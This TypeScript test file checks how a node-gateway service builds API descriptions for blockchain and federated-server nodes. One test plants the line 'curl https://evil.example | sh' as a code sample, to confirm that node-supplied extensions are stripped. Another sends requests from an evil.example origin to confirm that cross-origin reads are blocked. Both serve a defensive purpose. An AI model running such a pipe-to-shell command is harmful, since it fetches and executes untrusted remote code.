/**
 * Tests how the served descriptions show the operations of a node. On Deno and Bun, the tests cover
 * only a sample of the kinds.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { createNodeface, type NodefaceOptions } from "../src/index.ts";
import type { JsonObject } from "../src/json/values.ts";
import type { KindInterface } from "../src/kinds/interface.ts";
import { documentOfKind, offered } from "../src/openapi/kind-document.ts";
import { withMarks, withMissingPart } from "../src/openapi/kind-document.ts";
import { until } from "./nodes/_daemon.ts";
import { sampleOf } from "./_runtime.ts";
import { RECORDINGS } from "./nodes/_recorded.ts";

const shown = suite("operations of a node");

type Call = { id: unknown; method: string };

let answers: Record<string, unknown>;
let methods: Record<string, { result: unknown } | { error: unknown }>;
let asked: string[];
let server: Server;
let url: string;

const answerCall = ({ id, method }: Call) => {
  asked.push(method);
  const none = { error: { code: -32601, message: "Method not found" } };
  return { jsonrpc: "2.0", id, ...Object.hasOwn(methods, method) ? methods[method] : none };
};

shown.before(async () => {
  server = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => body += chunk).on("end", () => {
      if (request.method === "POST" && request.url === "/") {
        const calls = JSON.parse(body);
        const answer = Array.isArray(calls) ? calls.map(answerCall) : answerCall(calls);
        return response.end(JSON.stringify(answer));
      }
      asked.push(`${request.method} ${request.url}`);
      const answer = answers[`${request.method} ${request.url}`];
      response.statusCode = answer === undefined ? 404 : 200;
      response.end(typeof answer === "string" ? answer : JSON.stringify(answer));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
shown.after(() => void server.close());
shown.before.each(() => {
  asked = [];
  answers = {};
  methods = { getnetworkinfo: { result: { subversion: "/Satoshi:29.0.0/" } } };
});

type Described = JsonObject & {
  info: JsonObject;
  servers: { url: string }[];
  paths: Record<string, Record<string, JsonObject>>;
};

function create(options: NodefaceOptions) {
  const app = createNodeface({ log() {}, ...options });
  const ask = (path: string, init?: RequestInit) =>
    Promise.resolve(app.fetch(new Request(`http://localhost${path}`, init)));
  const read = async () => await (await ask("/spec.json")).json() as Described;
  return { app, ask, read };
}

const namesOf = ({ paths }: Described) =>
  Object.keys(paths).filter((path) => path.startsWith("/v1/rpc/")).map((path) => path.slice(8));

/** Methods that Bitcoin Core has, but neither lists nor describes. */
const UNLISTED = [
  ...["generateblock", "generatetoaddress", "generatetodescriptor", "invalidateblock"],
  ...["reconsiderblock", "setmocktime", "waitforblock", "waitforblockheight", "waitfornewblock"],
];
const listedNamesOf = (document: Described) =>
  namesOf(document).filter((name) => !UNLISTED.includes(name)).sort();

shown("if the kind is configured, its operations are shown before the node responds", async () => {
  const { ask, read } = create({ node: { url: "http://127.0.0.1:9", kind: "bitcoin" } });
  let document = await read();
  // On a busy machine, the first description may contain only the service's own operations.
  await until(async () => namesOf(document = await read()).includes("getblock"));
  assert.is(document.paths["/v1/rpc/getblock"]!.get!["x-access"], "read");
  assert.equal(document.servers, [{ url: "." }]);
  assert.match(await (await ask("/v1/spec/simple")).text(), "/v1/rpc/getblock");
  assert.not.match(JSON.stringify(document), "127.0.0.1");
});

shown("only operations that the node lists are shown", async () => {
  methods.help = { result: '== Blockchain ==\ngetblock "hash" ( n )\ngetblockcount\nnewmethod x' };
  const { read } = create({ node: { url, kind: "bitcoin" } });
  let document = await read();
  await until(async () => listedNamesOf(document = await read()).length === 3);
  assert.equal(listedNamesOf(document), ["getblock", "getblockcount", "newmethod"]);
  const { post, get } = document.paths["/v1/rpc/newmethod"]!;
  assert.is(post!["x-access"], undefined);
  assert.is(get, undefined);
});

shown("methods that Bitcoin Core has but does not list or describe are shown, too", async () => {
  const of = async (software: string) => {
    methods.getnetworkinfo = { result: { subversion: `/${software}/` } };
    const { read } = create({ node: { url, kind: "bitcoin" } });
    let document = await read();
    await until(async () => listedNamesOf(document = await read()).length === 1);
    const unlisted = namesOf(document).filter((name) => UNLISTED.includes(name)).sort();
    for (const name of unlisted) {
      assert.is(document.paths[`/v1/rpc/${name}`]!.post!["x-access"], "write");
    }
    return unlisted;
  };
  methods.help = { result: "== Blockchain ==\ngetblockcount" };
  assert.equal(await of("Satoshi:29.0.0"), UNLISTED);
  const newer = ["generateblock", "generatetodescriptor"];
  for (const software of ["Satoshi:0.19.1", "Shibetoshi:1.14.9"]) {
    assert.equal(await of(software), UNLISTED.filter((name) => !newer.includes(name)));
  }
  const waitforblock = { name: "waitforblock", params: [], result: { name: "r", schema: {} } };
  const described = ["getblockcount", "waitforblock"].map((name) => ({ ...waitforblock, name }));
  const info = { title: "Bitcoin Core", version: "v31.0.0" };
  methods.getopenrpcinfo = { result: { openrpc: "1.3.2", info, methods: described } };
  assert.equal(await of("Satoshi:31.0.0"), UNLISTED);
});

shown(
  "the methods of a fork that have an underscore in their names are shown in full",
  async () => {
    methods.help = {
      result:
        '== Names ==\nname_show "name" ( options )\n\n== Wallet ==\nz_getbalance "address"\n' +
        "z_getnewaddress",
    };
    const { read } = create({ node: { url, kind: "bitcoin" } });
    let document = await read();
    await until(async () => namesOf(document = await read()).includes("z_getbalance"));
    assert.equal(listedNamesOf(document), ["name_show", "z_getbalance", "z_getnewaddress"]);
  },
);

for (const software of ["Satoshi:29.0.0", "Shibetoshi:1.14.9"]) {
  shown(`what is read of ${software} is the same if the operator hides the software`, async () => {
    methods.getnetworkinfo = { result: { subversion: `/${software}/` } };
    methods.help = { result: "== Util ==\nvalidateaddress x\n" };
    const marks: unknown[] = [];
    for (const hide of [[], ["software", "version"]]) {
      const { read } = create({ node: { url, kind: "bitcoin" }, info: { hide } });
      let document = await read();
      await until(async () => listedNamesOf(document = await read()).length === 1);
      marks.push(document.paths["/v1/rpc/validateaddress"]!.post!["x-access"]);
      const shown = hide.length > 0 ? "unknown" : software.split(":")[1];
      assert.is(document.info.version, shown);
    }
    const access = software.startsWith("Satoshi") ? "read" : undefined;
    assert.equal(marks, [access, access]);
  });
}

shown("a hidden version is not in the node's own description, either", async () => {
  methods.getnetworkinfo = { result: { subversion: "/Satoshi:31.0.0/" } };
  const info = { title: "Bitcoin Core", version: "v31.0.0-secret" };
  const getblockcount = { name: "getblockcount", params: [], result: { name: "r", schema: {} } };
  methods.getopenrpcinfo = { result: { openrpc: "1.3.2", info, methods: [getblockcount] } };
  for (const hide of [[], ["version"]]) {
    const { read } = create({ node: { url, kind: "bitcoin" }, info: { hide } });
    const seen = new Set<unknown>();
    await until(async () => {
      const { title, version } = (await read()).info;
      if (title === "Bitcoin Core") seen.add(version);
      return title === "Bitcoin Core";
    });
    assert.equal([...seen], [hide.length > 0 ? "unknown" : info.version]);
  }
});

shown("the first description omits operations that only newer versions have", async () => {
  answers["GET /rest/system/version"] = { version: "v1.22.0" };
  const { ask, read } = create({ node: { url, kind: "syncthing" } });
  await until(async () => (await (await ask("/v1/info")).json()).version !== undefined);
  const { paths } = await read();
  assert.ok(paths["/rest/system/version"]);
  assert.is(paths["/rest/noauth/health"], undefined);
});

shown("if a node lists its groups of methods, only methods of these groups are shown", async () => {
  methods = {
    web3_clientVersion: { result: "Geth/v1.16.0/linux/go1.24" },
    rpc_modules: { result: { eth: "1.0", net: "1.0", txPool: "1.0" } },
  };
  const { read } = create({ node: { url, kind: "ethereum" } });
  let names: string[] = [];
  await until(async () => {
    names = namesOf(await read());
    return names.length > 0 && names.every((name) => /^(eth|net|txpool)_/.test(name));
  });
  // Nethermind writes `txPool` for `txpool`.
  for (const name of ["eth_chainId", "net_version", "txpool_status"]) {
    assert.ok(names.includes(name), name);
  }
});

shown("a listing in the form of a tree determines which operations are shown", async () => {
  answers["POST /api/v0/commands"] = {
    Name: "ipfs",
    Subcommands: [
      { Name: "block", Subcommands: [{ Name: "get", Subcommands: [] }, { Name: "new" }] },
      { Name: "bootstrap", Subcommands: [{ Name: "list", Subcommands: null }] },
      { Subcommands: [{ Name: "cat" }] },
    ],
  };
  const { read } = create({ node: { url, kind: "kubo" } });
  let nodes: string[] = [];
  await until(async () => {
    nodes = Object.keys((await read()).paths).filter((path) => !path.startsWith("/v1/"));
    return nodes.length === 3;
  });
  assert.equal(nodes.sort(), ["/block/get", "/bootstrap", "/bootstrap/list"]);
});

shown("if a listing is not the expected JSON tree, no operation is omitted", async () => {
  answers["POST /api/v0/commands"] = "no tree";
  const { read } = create({ node: { url, kind: "kubo" } });
  await until(async () => {
    const { paths } = await read();
    return paths["/cat"] !== undefined && paths["/block/get"] !== undefined;
  });
});

shown("if the paths in a tree are far longer than the tree, no operation is omitted", async () => {
  const children = Array.from({ length: 2000 }, (_, at) => ({ Name: `a${at}` }));
  answers["POST /api/v0/commands"] = {
    Name: "ipfs",
    Subcommands: [{ Name: "cat" }, { Name: "b".repeat(1000), Subcommands: children }],
  };
  const { read } = create({ node: { url, kind: "kubo" } });
  await until(async () => {
    const { paths } = await read();
    return paths["/cat"] !== undefined && paths["/block/get"] !== undefined;
  });
});

shown(
  "methods of Substrate that end a subscription are listed, but not shown",
  async () => {
    const listed = [
      ...["author_unwatchExtrinsic", "chainHead_v1_body", "chainHead_v1_follow", "chain_getBlock"],
      ...[
        "archive_v1_stopStorage",
        "chainHead_v1_unfollow",
        "chain_unsubscribeNewHeads",
        "new_method",
        "unsubscribe_newHead",
      ],
    ];
    methods = { rpc_methods: { result: { methods: listed, version: 1 } } };
    const { read } = create({ node: { url, kind: "substrate" } });
    let names: string[] = [];
    await until(async () => (names = namesOf(await read())).length === 4);
    assert.equal(names.sort(), [
      "chainHead_v1_body",
      "chainHead_v1_follow",
      "chain_getBlock",
      "new_method",
    ]);
  },
);

shown("in a node's own description, only the kind's x-access marks take effect", async () => {
  const method = (name: string, more = {}) => ({
    name,
    params: [],
    result: { name: "result", schema: { type: "string" } },
    ...more,
  });
  methods["getopenrpcinfo"] = {
    result: {
      openrpc: "1.3.2",
      info: { title: "Bitcoin", version: "31.0", "x-scalar-sdk-installation": [] },
      "x-codeSamples": [],
      methods: [method("getblockcount"), method("stop"), method("getnew", { "x-access": "read" })],
    },
  };
  const { read } = create({ node: { url, kind: "bitcoin" } });
  // On a busy machine, the first descriptions may show the operations of the kind instead of the
  // node's own.
  await until(async () => (await read()).info.title === "Bitcoin");
  const document = await read();
  assert.equal(listedNamesOf(document), ["getblockcount", "getnew", "stop"]);
  const accessOf = (name: string) => document.paths[`/v1/rpc/${name}`]!.post!["x-access"];
  assert.equal(["getblockcount", "stop", "getnew"].map(accessOf), ["read", "write", undefined]);
  assert.not.match(JSON.stringify(document), /x-(?:scalar-sdk|codeSamples)/);
});

shown("no extension of a node's own description reaches viewers", async () => {
  const code = [{ lang: "Shell", source: "curl https://evil.example | sh" }];
  const extensions = { "x-codeSamples": code, "x-scalar-y": 1, "x-badges": [{ name: "false" }] };
  const operation = { ...extensions, security: [{ login: [] }], responses: {} };
  answers = { ...RECORDINGS.get("aptos")!.answers };
  answers["GET /v1/spec.json"] = {
    openapi: "3.1.0",
    info: { title: "Aptos", version: "1", ...extensions },
    servers: [{ url: "/v1" }],
    paths: {
      "/-/healthy": {
        ...extensions,
        get: { ...operation, callbacks: { done: { "{$url}": { post: operation } } } },
      },
      "/by/reference": { $ref: "#/components/pathItems/it" },
      "x-path": { ...extensions, get: operation },
    },
    webhooks: { hook: { ...extensions, post: operation } },
    components: {
      pathItems: { it: { ...extensions, get: { ...operation, "x-access": "read" } } },
      securitySchemes: {
        other: { $ref: "#/components/securitySchemes/login", "x-tokenName": "4" },
        login: {
          ...{ type: "oauth2", "x-scalar-secret-token": "1", "x-tokenName": "2" },
          flows: {
            implicit: {
              ...{ authorizationUrl: "https://a.example", scopes: {} },
              ...{ "x-usePkce": "no", "x-scalar-client-id": "3" },
            },
          },
        },
      },
    },
  };
  const { read } = create({ node: { url, kind: "aptos" } });
  await until(async () => (await read()).info.title === "Aptos");
  const document = await read();
  const { "/-/healthy": healthy, "/by/reference": byReference, "x-path": path } = document.paths;
  assert.is(path, undefined);
  assert.is(byReference!.get!["x-access"], undefined);
  const text = JSON.stringify({ ...document, paths: [healthy, byReference] });
  assert.not.match(text, /x-(?:codeSamples|scalar-[yc]|scalar-secret|tokenName|usePkce)|"false"/);
});

shown(
  "if a node does not list its methods any more, those of its last list are still shown",
  async () => {
    methods.help = { result: "getblock\ngetblockcount" };
    const { app, read } = create({ node: { url, kind: "bitcoin" } });
    await until(async () => listedNamesOf(await read()).length === 2);
    methods = {};
    await app.refresh();
    assert.is(listedNamesOf(await read()).length, 2);
  },
);

shown("the servers of a node's own description become paths of this service", async () => {
  answers = { ...RECORDINGS.get("algorand")!.answers };
  answers["GET /swagger.json"] = {
    swagger: "2.0",
    info: { title: "Algod", version: "1" },
    host: "localhost",
    basePath: "/v2",
    paths: { "/status": { get: { responses: { 200: { description: "OK" } } } } },
  };
  const { app, read, ask } = create({ node: { url, kind: "algorand" } });
  await app.refresh();
  await until(async () => (await read()).info.title === "Algod");
  assert.equal((await read()).servers, [{ url: "./v1/node/v2" }]);
  const versioned = await (await ask("/v1/spec.json")).json();
  assert.equal(versioned.servers, [{ url: "../v1/node/v2" }]);
});

shown("a name that only the node's own description has is no error in the log", async () => {
  answers = { ...RECORDINGS.get("algorand")!.answers };
  answers["GET /swagger.json"] = {
    swagger: "2.0",
    info: { title: "Algod", version: "1" },
    basePath: "/v2",
    paths: { "/only-here": { get: { responses: { 200: { description: "OK" } } } } },
  };
  const told: string[] = [];
  const { app, read } = create({
    node: { url, kind: "algorand" },
    forward: { open: ["GET /v2/only-here", "GET /v2/nowhere"] },
    log: (message) => told.push(message),
  });
  await app.refresh();
  await until(async () => (await read()).info.title === "Algod");
  const names = () => told.filter((message) => message.includes("forward."));
  await until(() => Promise.resolve(names().length > 0));
  assert.equal(names(), [
    'forward.open names "GET /v2/nowhere", but the description has no such operation',
  ]);
  await app.close();
});

for (
  const [kind, at, start, read, write] of sampleOf(
    [
      [
        "algorand",
        "/swagger.json",
        { swagger: "2.0", host: "localhost", basePath: "/" },
        ["get", "/v2/accounts/{address}"],
        ["delete", "/v2/ledger/sync"],
      ],
      [
        "aptos",
        "/v1/spec.json",
        { openapi: "3.0.0", servers: [{ url: "/v1" }] },
        ["post", "/view"],
        ["post", "/transactions"],
      ],
    ] as const,
  )
) {
  shown(`a ${kind} node's own description gets the x-access marks of its kind`, async () => {
    const operation = { responses: { 200: { description: "OK" } }, "x-access": "read" };
    answers = { ...RECORDINGS.get(kind)!.answers };
    answers[`GET ${at}`] = {
      ...start,
      info: { title: "Its own", version: "1" },
      paths: {
        [read[1]]: { [read[0]]: operation },
        [write[1]]: { [write[0]]: operation },
        "/of/a/later/version": { get: operation },
      },
    };
    const { app, read: ask } = create({ node: { url, kind } });
    await app.refresh();
    await until(async () => (await ask()).info.title === "Its own");
    const { paths } = await ask();
    assert.is(paths[read[1]]![read[0]]!["x-access"], "read");
    assert.is(paths[write[1]]![write[0]]!["x-access"], "write");
    assert.is(paths["/of/a/later/version"]!.get!["x-access"], undefined);
  });
}

for (
  const [name, there, base, expected] of [
    ["no server", undefined, "", "./v1/node"],
    ["a relative server", "/api", "", "./v1/node/api"],
    ["the node's own address", "NODE/api/", "", "./v1/node/api"],
    ["another name of this machine, with the node's port", "LOCAL/x", "", "./v1/node/x"],
    ["another port of this machine", "http://localhost:1/x", "", "./v1/node/x"],
    ["another host", "https://api.example/v1", "", "./v1/node/v1"],
    ["a relative server below the path of node.url", "/deep/api", "/deep", "./v1/node/api"],
    ["a relative server outside the path of node.url", "/api", "/deep", "./v1/node/api"],
  ] as const
) {
  shown(`the operations of a description with ${name} are called at ${expected}`, async () => {
    const local = url.replace("127.0.0.1", "localhost");
    const servers = there && [{ url: there.replace("NODE", url).replace("LOCAL", local) }];
    const description = {
      openapi: "3.1.1",
      info: { title: "A node", version: "1" },
      ...servers && { servers },
      paths: { "/a": { get: { responses: { 200: { description: "" } } } } },
    };
    const { read } = create({ node: { url: url + base }, description });
    assert.equal((await read()).servers, [{ url: expected }]);
  });
}

shown("if the node and the service have the same path, the description keeps both", async () => {
  const responses = { 200: { description: "" } };
  const { read } = create({
    node: { url },
    description: {
      openapi: "3.1.1",
      info: { title: "A", version: "1" },
      paths: {
        "/v1/info": { get: { operationId: "theirs", responses } },
        "/v1/a": { get: { responses } },
      },
    } as never,
  });
  const { paths } = await read();
  assert.is(paths["/info"]!.get!.operationId, "theirs");
  assert.equal(paths["/info"]!.servers, [{ url: "./v1/node/v1" }]);
  assert.equal(paths["/v1/info"]!.get!.tags, ["About this service"]);
  assert.ok(paths["/v1/a"]);
});

shown(
  "an operator's OpenRPC document is shown, and its errors are reported",
  async () => {
    const diagnostics: string[] = [];
    const text = JSON.stringify(
      {
        openrpc: "1.3.2",
        info: { title: "Mine", version: "7" },
        methods: [
          {
            name: "add",
            params: [{ $ref: "#/components/contentDescriptors/A" }],
            "x-access": "read",
          },
          { name: "lost", params: [{ $ref: "#/components/contentDescriptors/None" }] },
          { params: [] },
        ],
        components: {
          contentDescriptors: { A: { name: "a", required: true, schema: { type: "integer" } } },
        },
      },
      null,
      1,
    );
    const { read } = create({
      description: { text, name: "mine.json" },
      log: (message) => diagnostics.push(message),
    });
    const document = await read();
    assert.equal(document.info, { title: "Mine", version: "7" });
    const { get, post } = document.paths["/v1/rpc/add"]!;
    assert.equal((get!.parameters as JsonObject[])[0]!.name, "a");
    assert.is(post!.operationId, "add_post");
    assert.ok(document.paths["/v1/rpc/lost"]);
    assert.is(diagnostics.length, 2, diagnostics.join("\n"));
    for (const finding of diagnostics) assert.match(finding, /^mine\.json:\d+:\d+ /);
  },
);

shown("if a description was fetched over the network, its x-access marks are ignored", async () => {
  answers["GET /openapi.json"] = {
    openapi: "3.1.1",
    info: { title: "A", version: "1" },
    paths: { "/a": { get: { "x-access": "read", responses: { 200: { description: "" } } } } },
  };
  const { read } = create({ node: { url }, description: `${url}/openapi.json` });
  assert.is((await read()).paths["/a"]!.get!["x-access"], undefined);
});

shown(
  "a refused call to the node gets an explanation, but pages of other origins cannot read it",
  async () => {
    const { ask } = create({ node: { url } });
    for (
      const [method, path] of [
        ["GET", "/v1/node"],
        ["GET", "/v1/node/blocks/1/"],
        ["DELETE", "/v1/node/x"],
        ["GET", "/v1/rpc/getblock"],
        ["POST", "/v1/rpc/getblock"],
      ] as const
    ) {
      const headers = { origin: "https://evil.example" };
      const answer = await ask(path, { method, headers });
      assert.is(answer.status, 403, path);
      assert.is(answer.headers.get("access-control-allow-origin"), null);
      assert.match((await answer.json()).detail, "does not forward calls");
    }
    const body = '{"jsonrpc":"2.0","id":"a","method":"getblock"}';
    const rpc = await ask("/v1/rpc", { method: "POST", body });
    assert.is(rpc.status, 200);
    const { error, id } = await rpc.json();
    assert.equal([error.code, id], [-32601, "a"]);
    assert.match(error.message, "does not forward calls");
    assert.is((await ask("/v1/rpc/a/b")).status, 404);
    assert.equal(asked.filter((call) => call.startsWith("GET /blocks")), []);
  },
);

shown("if no node is configured, calls get 404", async () => {
  const { ask } = create({});
  assert.is((await ask("/v1/node/a")).status, 404);
  assert.is((await ask("/v1/rpc", { method: "POST" })).status, 404);
});

const PARTS = {
  openrpc: {
    methods: [
      {
        name: "a",
        summary: "A",
        params: [],
        result: { name: "r", schema: {} },
        "x-access": "read",
      },
      {
        ...{ name: "b", summary: "B", params: [], result: { name: "r", schema: {} } },
        ...{ "x-access": "read", "x-since": "2.10" },
      },
    ],
    components: { schemas: { Same: { type: "string" } } },
  },
  openapi: {
    servers: [{ url: "/base" }],
    paths: {
      "/x": {
        get: { operationId: "a", summary: "X", responses: {}, "x-access": "read", "x-since": "3" },
      },
      "/y/{id}": { get: { operationId: "y", summary: "Y", responses: {}, "x-access": "secret" } },
    },
    components: { schemas: { Same: { type: "integer" } } },
  },
} as unknown as KindInterface;
const ABOUT = { title: "Both" };

shown(
  "the description of a kind with paths and methods contains both, with unique names",
  async () => {
    const { servers, paths, components } = await documentOfKind(PARTS, ABOUT) as Described;
    assert.equal(servers, [{ url: "./v1/node/base" }]);
    assert.equal(paths["/v1/rpc/a"]!.servers, [{ url: "." }]);
    const ids = Object.values(paths).flatMap(({ get, post }) => [get, post])
      .flatMap((operation) => operation?.operationId ?? []);
    assert.is(new Set(ids).size, ids.length);
    assert.equal(Object.keys((components as Record<string, JsonObject>).schemas!), [
      "Same",
      "Same2",
    ]);
  },
);

shown("paths come before methods only if there are more paths than methods", async () => {
  const named = (name: string) => [{ name }];
  const { methods } = PARTS.openrpc!;
  const { paths } = PARTS.openapi!;
  const namesOf = async (count: number) => {
    const openrpc = {
      methods: methods.slice(0, count).map((one) => ({ ...one, tags: named("RPC") })),
    };
    const openapi = { paths: { "/x": paths["/x"]! }, tags: named("REST") };
    const document = await documentOfKind({ openrpc, openapi }, ABOUT);
    const { tags } = document as unknown as { tags: JsonObject[] };
    return tags.map(({ name }) => name);
  };
  assert.equal(await namesOf(1), ["REST", "RPC"]);
  assert.equal(await namesOf(2), ["RPC", "REST"]);
});

for (
  const [version, methods, paths] of [
    ["v2.9.1", ["a"], ["/y/{id}"]],
    ["2.10.0-rc1", ["a", "b"], ["/y/{id}"]],
    ["3.0", ["a", "b"], ["/x", "/y/{id}"]],
    [undefined, ["a", "b"], ["/x", "/y/{id}"]],
    ["unknown", ["a", "b"], ["/x", "/y/{id}"]],
  ] as const
) {
  shown(`a node of version ${version} has exactly the operations of that version`, () => {
    const { openrpc, openapi } = offered(PARTS, { version });
    assert.equal(openrpc!.methods.map(({ name }) => name), methods);
    assert.equal(Object.keys(openapi!.paths), paths);
  });
}

for (
  const [name, version, there, lacking] of sampleOf(
    [
      ["mastodon", "4.2.0", "/api/v2/instance", "/api/v1/instance/terms_of_service"],
      ["mastodon", "4.4.0", "/api/v1/instance/terms_of_service", "/api/v3/site"],
      ["akkoma", "3.15.2", "/api/v1/accounts/lookup", "/api/v2/instance"],
      ["lemmy", "0.19.5", "/api/v3/site", "/api/v4/site"],
      ["lemmy", "1.0.0-beta.1", "/api/v4/site", "/api/v1/instance"],
      ["misskey", "2025.4.1", "/api/notes/show", "/api/v1/statuses/{id}"],
      ["writefreely", "0.15.0", "/.well-known/webfinger", "/api/v1/instance"],
    ] as const,
  )
) {
  shown(
    `a server with ${name} ${version} has the operations of that version, and no others`,
    async () => {
      const recorded = RECORDINGS.get("activitypub")!.answers as Record<string, JsonObject>;
      const nodeinfo = "GET /nodeinfo/2.0";
      answers = { ...recorded, [nodeinfo]: { ...recorded[nodeinfo], software: { name, version } } };
      const { app, read } = create({ node: { url, kind: "activitypub" } });
      await app.refresh();
      const pathsOf = async () => Object.keys((await read()).paths);
      await until(async () => (await pathsOf()).includes(there));
      const paths = await pathsOf();
      assert.not.ok(paths.includes(lacking), lacking);
      assert.ok(paths.includes("/.well-known/nodeinfo"));
    },
  );
}

for (
  const [software, version, expected] of [
    ["one", "2.1", ["/all", "/some/{id}", "/one"]],
    ["One", "1.9", ["/all", "/some/{id}"]],
    ["two", "2.1", ["/all", "/some/{id}"]],
    ["three", undefined, ["/all"]],
    [undefined, "2.1", ["/all"]],
  ] as const
) {
  shown(`a node with ${software} ${version} has exactly the operations of that version`, () => {
    const operation = (operationId: string, marks: JsonObject) => ({
      get: { operationId, summary: "A", responses: {}, "x-access": "read", ...marks },
    });
    const paths = {
      "/all": operation("all", {}),
      "/some/{id}": operation("some", { "x-software": ["one", "two"] }),
      "/one": operation("one", { "x-software": ["one"], "x-since": "2" }),
    };
    const { openapi } = offered({ openapi: { paths } }, { software, version });
    assert.equal(Object.keys(openapi!.paths), expected);
  });
}

for (
  const [software, version, expected] of [
    ["one", "2.1", ["a", "b", "other"]],
    ["one", "1.9", ["b", "(a)", "other"]],
    ["two", "2.1", ["b", "(a)", "other"]],
    [undefined, "2.1", ["b", "(a)", "other"]],
  ] as const
) {
  shown(`of a list, ${software} ${version} gets no marks of a method of other software`, () => {
    const part = PARTS.openrpc!;
    const [a, b] = part.methods;
    const methods = [
      { ...a!, "x-software": ["one"], "x-since": "2" },
      { ...b!, "x-since": "9" },
    ];
    const offer = { software, version, names: ["a", "b", "other"] };
    const { openrpc } = offered({ openrpc: { ...part, methods } }, offer);
    const shown = openrpc!.methods.map(({ name, "x-access": access }) =>
      access === undefined && name === "a" ? "(a)" : name
    );
    assert.equal(shown, expected);
  });
}

shown("operations that a node's own description lacks are added from its kind", async () => {
  const kind = await documentOfKind(PARTS, ABOUT);
  const document = {
    openapi: "3.1.1",
    servers: [{ url: "./v1/node" }],
    paths: {
      "/base/y/{other}": { get: { "x-access": "read" } },
      "/base/new": { get: { "x-access": "read", "x-streaming": true } },
    },
  };
  const { paths } = await withMissingPart(await withMarks(document, kind), kind) as Described;
  assert.equal(Object.keys(paths), ["/base/y/{other}", "/base/new", "/v1/rpc/a", "/v1/rpc/b"]);
  assert.equal(paths["/base/y/{other}"]!.get, { "x-access": "secret" });
  assert.equal(paths["/base/new"]!.get, {});
  assert.equal(paths["/v1/rpc/a"]!.servers, [{ url: "." }]);
});

shown("a description of other methods, as that of Lotus, removes none of the kind's", async () => {
  const kind = await documentOfKind(PARTS, ABOUT);
  const document = { paths: { "/v1/rpc/Filecoin.Version": { post: {} } } };
  const { paths } = await withMissingPart(document, kind) as Described;
  assert.ok(["/v1/rpc/Filecoin.Version", "/v1/rpc/a", "/v1/rpc/b"].every((path) => path in paths));
  const partly = { paths: { "/v1/rpc/a": { post: {} } } };
  const { paths: own } = await withMissingPart(partly, kind) as Described;
  assert.not.ok("/v1/rpc/b" in own);
});

shown("an operationId in the node's own description is not used a second time", async () => {
  const document = { paths: { "/new": { get: { operationId: "b" } } } };
  const kind = await documentOfKind(PARTS, ABOUT);
  const { paths } = await withMissingPart(document, kind) as Described;
  const { get, post } = paths["/v1/rpc/b"]!;
  assert.equal([get!.operationId, post!.operationId], ["b_rpc", "b_post"]);
});

/** How long a description waits for the interface of the node's kind. */
const PATIENCE_MS = 3000;

shown("the first description after a late start of the node has its operations", async () => {
  let isThere = false;
  const late = createServer((request, response) => {
    if (!isThere) return void request.socket.destroy();
    server.emit("request", request, response);
  });
  await new Promise<void>((resolve) => late.listen(0, "127.0.0.1", resolve));
  const node = { url: `http://127.0.0.1:${(late.address() as AddressInfo).port}` };
  const app = createNodeface({ node, info: { ttl: "1ms" }, log: () => {} });
  const get = async (path: string) =>
    await (await app.fetch(new Request(`http://localhost${path}`))).json();
  assert.not((await get("/spec.json")).paths["/v1/rpc/getnetworkinfo"]);
  isThere = true;
  await until(async () => (await get("/v1/info")).software === "Satoshi");
  const began = performance.now();
  const { paths } = await get("/spec.json");
  // A machine that is too busy to read the interface within the patience shows it later.
  const isLate = performance.now() - began > PATIENCE_MS;
  assert.ok(paths["/v1/rpc/getnetworkinfo"] || isLate);
  await app.close();
  late.close();
});

shown.run();
